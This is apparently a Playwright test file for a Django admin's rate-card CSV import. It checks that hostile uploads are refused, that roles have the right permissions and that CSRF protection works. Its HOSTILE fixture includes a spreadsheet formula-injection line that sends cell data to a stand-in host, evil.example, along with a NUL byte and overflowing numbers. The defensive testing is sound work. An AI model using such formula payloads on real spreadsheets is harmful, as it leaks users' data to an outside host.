"""Browser tests (Playwright + Debian's Chromium, desktop width) of the rate cards in the admin: a merchandiser
exports a card, is refused a hostile file (formulas, a NUL byte, huge numbers, wrong columns) with every bad row
named and nothing written, then imports a good one; Operations see the cards read-only and cannot import; store
staff never reach the admin; a form without the CSRF token is refused. Screenshot:
docs/screens/merchandiser-ratecard-import-refused.png."""

import csv
import io

import pytest
from django.contrib.auth.models import User
from playwright.sync_api import expect

from conftest import browser_login, nav_click
from fulfillment.tests.browser.test_store_phone import SCREENS
from routing.models import RateCard, RateCardPrice
from routing.tests.test_ratecard import GOOD, default_card  # noqa: F401 (a fixture)

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
HOSTILE = (
    GOOD  # rows 2-25: a valid card
    + '=HYPERLINK("http://evil.example/?"&A1),2,,1.00,1.00,1\n'  # row 26: a formula for a service
    + "gro\x00und,3,5,1.00,1.00,1\n"  # row 27: a NUL byte
    + "express,4,5,1e999999,99999999999999999999999,1\n"  # row 28: huge numbers
    + "overnight,5,5,1.00,1.00,1,surplus\n"  # row 29: more cells than columns
)


@pytest.fixture
def desk(page):
    page.set_viewport_size({"width": 1280, "height": 900})
    return page


def staff(*users) -> None:
    User.objects.filter(pk__in=[u.pk for u in users]).update(is_staff=True)


def import_form(page, *, carrier: str, version: int, content: bytes) -> None:
    page.fill("input[name=carrier]", carrier)
    page.fill("input[name=version]", str(version))
    page.fill("input[name=effective_from]", "2027-01-01")
    page.set_input_files("input[name=file]", {"name": "card.csv", "mimeType": "text/csv", "buffer": content})
    page.click("input[type=submit][value=Import]")


def test_a_merchandiser_exports_is_refused_a_hostile_file_and_imports_a_good_one(
    desk,
    live_server,
    merch_user,
    default_card,  # noqa: F811
):
    page = desk
    staff(merch_user)
    cards, prices = RateCard.objects.count(), RateCardPrice.objects.count()
    browser_login(page, merch_user.username)
    nav_click(page, "Admin")
    page.get_by_role("link", name="Rate cards").click()
    page.wait_for_url("**/admin/routing/ratecard/")
    expect(page.locator("#result_list tbody tr")).to_have_count(1)
    # Export: the import's own format, one row per price.
    page.locator("#result_list input.action-select").first.check()
    page.select_option("select[name=action]", "export_csv")
    with page.expect_download() as download:
        page.click("button[name=index]")
    with open(download.value.path(), encoding="utf-8") as f:
        exported = f.read()
    rows = list(csv.reader(io.StringIO(exported)))
    assert rows[0] == ["service", "zone", "max_lb", "base", "per_lb", "transit_days"]
    assert len(rows) == 1 + default_card.prices.count() and download.value.suggested_filename.endswith("-v1.csv")

    page.click("text=Import CSV")
    import_form(page, carrier="Hostile", version=2, content=HOSTILE.encode())
    errors = page.locator("ul.errorlist li")
    expect(page.locator(".errornote")).to_have_text("The file was refused; nothing was imported.")
    text = " | ".join(errors.all_inner_texts())
    for named in ("Row 26, service", "Row 27, service", "Row 28, base", "Row 28, per_lb", "Row 29, row"):
        assert named in text, (named, text)
    page.screenshot(path=str(SCREENS / "merchandiser-ratecard-import-refused.png"), full_page=True)
    assert (RateCard.objects.count(), RateCardPrice.objects.count()) == (cards, prices)

    # A file with wrong columns is refused by its header; a version no one could mean, by the form.
    import_form(page, carrier="Hostile", version=2, content=b"sku,price\nA,1\n")
    expect(errors.first).to_contain_text("Row 1, header: missing column(s): service, zone, max_lb")
    import_form(page, carrier="Hostile", version=10**12, content=exported.encode())
    assert page.locator("input[name=version]").evaluate("e => e.validity.rangeOverflow")  # the browser says why
    assert RateCard.objects.count() == cards

    # The exported file, re-imported as the next version: the card's page, with every price.
    import_form(page, carrier=default_card.carrier, version=2, content=exported.encode())
    page.wait_for_url("**/admin/routing/ratecard/*/change/")
    expect(page.locator(".messagelist")).to_contain_text(f"with {len(rows) - 1} prices")
    assert RateCard.objects.get(carrier=default_card.carrier, version=2).prices.count() == len(rows) - 1


def test_operations_view_only_store_staff_never_and_csrf_is_required(
    desk,
    live_server,
    ops_user,
    store_user,
    merch_user,
    default_card,  # noqa: F811
):
    page = desk
    staff(ops_user, merch_user)
    browser_login(page, ops_user.username)
    page.goto("/admin/routing/ratecard/")
    expect(page.locator("#result_list tbody tr")).to_have_count(1)
    expect(page.get_by_role("link", name="Import CSV")).to_have_count(0)
    expect(page.get_by_role("link", name="Add rate card")).to_have_count(0)
    page.goto(f"/admin/routing/ratecard/{default_card.pk}/change/")
    expect(page.locator("h1")).to_have_text("View rate card")
    expect(page.locator("input[name=_save]")).to_have_count(0)
    assert page.goto("/admin/routing/ratecard/import/").status == 403
    token = page.locator("input[name=csrfmiddlewaretoken]").first.get_attribute("value")
    resp = page.request.post(
        f"/admin/routing/ratecard/{default_card.pk}/change/",
        form={"carrier": "Hacked", "csrfmiddlewaretoken": token},
    )
    assert resp.status == 403
    assert RateCard.objects.get(pk=default_card.pk).carrier != "Hacked"

    page.context.clear_cookies()
    browser_login(page, store_user.username)
    expect(page.locator("header nav a", has_text="Admin")).to_have_count(0)
    page.goto("/admin/routing/ratecard/")
    assert "/admin/login/" in page.url  # not staff: the admin's login, never the cards
    expect(page.locator("#result_list")).to_have_count(0)

    # The merchandiser's import without the CSRF token: refused, nothing written.
    page.context.clear_cookies()
    browser_login(page, merch_user.username)
    page.goto("/admin/routing/ratecard/import/")
    resp = page.request.post(
        "/admin/routing/ratecard/import/",
        multipart={
            "carrier": "Forged",
            "version": "1",
            "effective_from": "2027-01-01",
            "file": {"name": "card.csv", "mimeType": "text/csv", "buffer": GOOD.encode()},
        },
    )
    assert resp.status == 403
    assert not RateCard.objects.filter(carrier="Forged").exists()
